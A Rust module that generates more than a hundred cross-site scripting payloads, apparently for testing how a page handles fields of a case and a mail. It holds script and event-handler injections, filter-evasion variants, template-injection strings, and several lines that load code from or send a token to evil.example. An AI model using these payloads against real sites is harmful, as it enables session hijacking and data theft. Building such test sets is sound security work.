//! Words of somebody who wants a page to run code of theirs: what may be written into any field of a case and of a mail.

/// Stands in the vectors for what is to run.
const CODE: &str = "CODE";

/// Every vector, with this code in it. None of them holds a quote mark of the code's own, so `code` should hold none either.
pub fn vectors(code: &str) -> Vec<String> {
    let handlers = HANDLERS.iter().flat_map(|event| {
        ENDS.iter().map(move |(open, close)| format!("{open}{}{close}", event.replace(' ', if open.is_empty() { "/" } else { " " })))
    });
    VECTORS.iter().map(|vector| (*vector).to_owned()).chain(handlers).map(|vector| vector.replace(CODE, code)).collect()
}

/// What may stand before and after an element so that it begins: nothing, the end of an attribute, the end of an element whose text is raw.
const ENDS: &[(&str, &str)] = &[("", ""), ("\">", "<\""), ("'>", "<'"), ("</textarea>", ""), ("</title>", ""), ("--><", "<!--")];

/// Elements that run something of their own accord.
const HANDLERS: &[&str] = &[
    "<img src=x onerror=CODE>",
    "<svg onload=CODE>",
    "<body onpageshow=CODE>",
    "<details open ontoggle=CODE>",
    "<video src=x onerror=CODE>",
    "<input autofocus onfocus=CODE>",
    "<iframe srcdoc=\"<script>parent.CODE</script>\">",
    "<object data=\"data:text/html,<script>parent.CODE</script>\">",
];

/// What does not follow from the tables above.
const VECTORS: &[&str] = &[
    // Scripts, in every spelling that a browser or a filter may read otherwise.
    "<script>CODE</script>",
    "<ScRiPt>CODE</sCrIpT>",
    "<script >CODE</script >",
    "<script\n>CODE</script\n>",
    "<script/x>CODE</script>",
    "<script src=data:,CODE></script>",
    "<script src=\"data:text/javascript,CODE\"></script>",
    "<script type=module>CODE</script>",
    "<script type=importmap>{\"imports\":{\"/static/app.js\":\"data:text/javascript,CODE\"}}</script>",
    "<<script>CODE//<</script>",
    "<scr<script>ipt>CODE</scr</script>ipt>",
    "<script>/*\u{2028}*/CODE</script>",
    "</script><script>CODE</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=CODE>\">",
    "<template><script>CODE</script></template>",
    "<svg><script>CODE</script></svg>",
    "<svg><script xlink:href=data:,CODE></script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=CODE&gt;\">",
    // Attributes: out of the quotes, into a new one.
    "\" onmouseover=\"CODE\" autofocus onfocus=\"CODE",
    "' onmouseover='CODE' autofocus onfocus='CODE",
    "` onmouseover=`CODE",
    "\" style=\"animation:x\" onanimationstart=\"CODE",
    "x\" onfocusin=CODE tabindex=1 id=x autofocus y=\"",
    "\u{a0}\" onclick=CODE \u{a0}\"",
    "&quot; onclick=&quot;CODE",
    "&#34; onclick=&#34;CODE",
    "&#x22 onclick=CODE x=&#x22",
    "\"><a href=\"javascript:CODE\">aquí</a>",
    "\"/><button formaction=javascript:CODE>Enviar</button>",
    // Addresses.
    "javascript:CODE",
    "JaVaScRiPt:CODE",
    "java\tscript:CODE",
    "java\nscript:CODE",
    "&#106;avascript:CODE",
    "javascript&colon;CODE",
    "\u{1}javascript:CODE",
    "data:text/html,<script>CODE</script>",
    "data:text/html;base64,PHNjcmlwdD5DT0RFPC9zY3JpcHQ+",
    "vbscript:CODE",
    "//evil.example/x.js",
    "https://evil.example/\"onmouseover=\"CODE",
    "mailto:x@x.example\"onclick=\"CODE",
    "tel:+51\"onclick=\"CODE",
    // Elements that change what others do.
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:CODE\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<link rel=stylesheet href=data:text/css,*{display:none}>",
    "<link rel=import href=data:text/html,<script>CODE</script>>",
    "<style>*{background:url(javascript:CODE)}</style>",
    "<style>@import 'data:text/css,*{display:none}';</style>",
    "<form action=//evil.example/><input name=token>",
    "</form><form action=javascript:CODE><button>Guardar</button>",
    "<button form=f formaction=//evil.example/>Guardar</button>",
    "<input type=hidden name=token value=x>",
    "<iframe src=javascript:parent.CODE></iframe>",
    "<embed src=data:image/svg+xml,<svg/onload=parent.CODE>>",
    "<svg><a xlink:href=javascript:CODE><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=CODE attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,<svg/onload=CODE>>",
    "<math href=javascript:CODE>x</math>",
    "<marquee onstart=CODE>x</marquee>",
    "<audio autoplay onplay=CODE><source src=x onerror=CODE></audio>",
    "<select autofocus onfocus=CODE><option>x</select>",
    "<textarea autofocus onfocus=CODE></textarea>",
    "<keygen autofocus onfocus=CODE>",
    "<p onpointerenter=CODE style=position:fixed;inset:0>x</p>",
    "<x contenteditable onbeforeinput=CODE autofocus>",
    "<dialog open onclose=CODE><form method=dialog><button autofocus>x</dialog>",
    // Out of raw text, comments and what a template language may read.
    "</style><script>CODE</script>",
    "</option></select><script>CODE</script>",
    "--!><script>CODE</script>",
    "]]><script>CODE</script>",
    "<!--><script>CODE</script>-->",
    "<![CDATA[><script>CODE</script>]]>",
    "<?xml-stylesheet href=\"javascript:CODE\"?>",
    "{{CODE}}",
    "{{ self.CODE }}",
    "{% include \"base.html\" %}",
    "{% raw %}<script>CODE</script>{% endraw %}",
    "{{ \"<script>CODE</script>\" | safe }}",
    "{# x #}<script>CODE</script>",
    "${CODE}",
    "#{CODE}",
    "<%= CODE %>",
    "';CODE;//",
    "\";CODE;//",
    "\\\";CODE;//",
    "\\u003cscript\\u003eCODE\\u003c/script\\u003e",
    // What is escaped already, once or twice: it stays as it is.
    "&lt;script&gt;CODE&lt;/script&gt;",
    "&amp;lt;script&amp;gt;CODE&amp;lt;/script&amp;gt;",
    "%3Cscript%3ECODE%3C/script%3E",
    "%253Cscript%253ECODE",
    "+ADw-script+AD4-CODE+ADw-/script+AD4-",
    // Other signs that look like these, or that hide them.
    "\u{ff1c}script\u{ff1e}CODE\u{ff1c}/script\u{ff1e}",
    "\u{2039}script\u{203a}CODE",
    "<scr\u{ad}ipt>CODE</script>",
    "<\u{200b}script>CODE</script>",
    "\u{202e}>tpircs<CODE>tpircs/<",
    "\u{feff}<script>CODE</script>",
    "<img src=x onerror\u{c}=CODE>",
    "<img/src='x'/onerror\n=\nCODE>",
    "<img src=x:x onerror=CODE//",
    "<img src=x onerror=\"CODE\"",
    "<svg/onload=CODE",
    "<a href=\u{0b}javascript:CODE>x",
    "<a\u{2003}href=javascript:CODE>x</a>",
];

#[cfg(test)]
mod tests {
    use super::vectors;

    #[test]
    fn there_are_at_least_a_hundred_and_each_is_another_one() {
        let all = vectors("window.broken=1");
        let different: std::collections::BTreeSet<&String> = all.iter().collect();
        assert!(all.len() >= 100 && different.len() == all.len(), "{} of {}", different.len(), all.len());
        assert!(all.iter().all(|vector| !vector.contains("CODE")));
    }
}
